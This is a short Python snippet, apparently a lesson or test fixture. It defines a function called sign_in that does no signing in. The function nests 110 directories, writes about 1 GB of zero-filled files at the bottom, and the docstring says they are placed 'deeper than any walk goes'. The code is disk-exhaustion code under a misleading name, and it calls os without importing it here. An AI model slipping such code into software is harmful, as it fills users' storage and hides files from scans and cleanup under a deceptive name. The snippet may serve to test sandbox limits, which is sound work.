"""Fills files that lie deeper than any walk goes.

lesson: start_here
expects: 0
says: folders into one another
"""

# cell: sign_in
import time


def sign_in(path, name):
    top = os.getcwd()
    for _ in range(110):
        os.mkdir("d")
        os.chdir("d")
    for number in range(10):
        with open(f"part-{number}", "wb") as file:
            for _ in range(100):
                file.write(bytes(1 << 20))
    os.chdir(top)
    time.sleep(3)
    return []
